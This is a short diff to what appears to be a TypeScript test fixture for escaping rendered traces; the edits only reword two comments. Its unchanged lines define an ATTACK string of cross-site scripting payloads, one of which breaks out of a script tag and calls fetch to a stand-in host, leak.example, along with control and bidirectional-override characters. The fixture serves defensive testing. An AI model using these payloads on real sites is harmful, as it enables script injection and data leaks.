@@ -12,7 +12,7 @@ import { join } from "@std/path";
 /** What a page that runs any of it sets on its window. */
 export const MARK = "rolloutTraceOwned";
 
-/** What stands behind every text; steers scripts, styles, templates, links and reading order. */
+/** What is behind every text; steers scripts, styles, templates, links and reading order. */
 export const ATTACK = [
   `<script>globalThis.${MARK}=1</script>`,
   `</script><script>globalThis.${MARK}=2;fetch("https://leak.example/s")</script>`,
@@ -25,7 +25,7 @@ export const ATTACK = [
   "\u202e\u2066evil\u0000\u001b[2J\u200b\ufeff\u2028",
 ].join(" ");
 
-/** Keys whose words the format knows: with other words there would be nothing to look at. */
+/** Keys whose words the format knows: with other words there would be nothing to see. */
 const KNOWN = new Set([
   "type",
   "status",
